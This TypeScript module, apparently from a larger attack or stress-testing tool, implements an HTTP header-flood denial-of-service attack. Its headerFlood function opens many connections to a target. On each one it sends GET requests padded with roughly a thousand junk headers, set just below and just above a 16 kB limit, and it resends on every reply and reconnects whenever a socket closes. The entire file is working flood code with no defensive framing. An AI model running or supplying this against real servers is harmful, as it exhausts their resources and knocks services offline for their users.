import { type Attack, open } from './attack.ts'

/** Of headers this short, a thousand are the most that fit into the 16 kB that the service reads, as Node counts them. */
const mostHeaders = 1000

/** Requests with as many headers as are allowed and with some more, each connection as fast as it is answered. */
export function headerFlood({ url, connections, count }: Attack): void {
  const below = requestOf(url, mostHeaders - 50)
  const above = requestOf(url, mostHeaders + 50)
  for (let number = 0; number < connections; number++) {
    floodOn(url, number % 2 === 0 ? below : above, count)
  }
}

function requestOf({ pathname, host }: URL, headers: number): string {
  const lines = Array.from({ length: headers }, (_, number) => `${1000 + number}: x\r\n`)
  return `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\nIf-None-Match: *\r\n${lines.join('')}\r\n`
}

function floodOn(url: URL, request: string, count: () => void): void {
  const socket = open(url)
  const send = (): void => {
    socket.write(request)
    count()
  }
  socket.on('connect', send)
  // An answer is a 304 or a 431, and in one piece.
  socket.on('data', send)
  socket.on('close', () => floodOn(url, request, count))
}
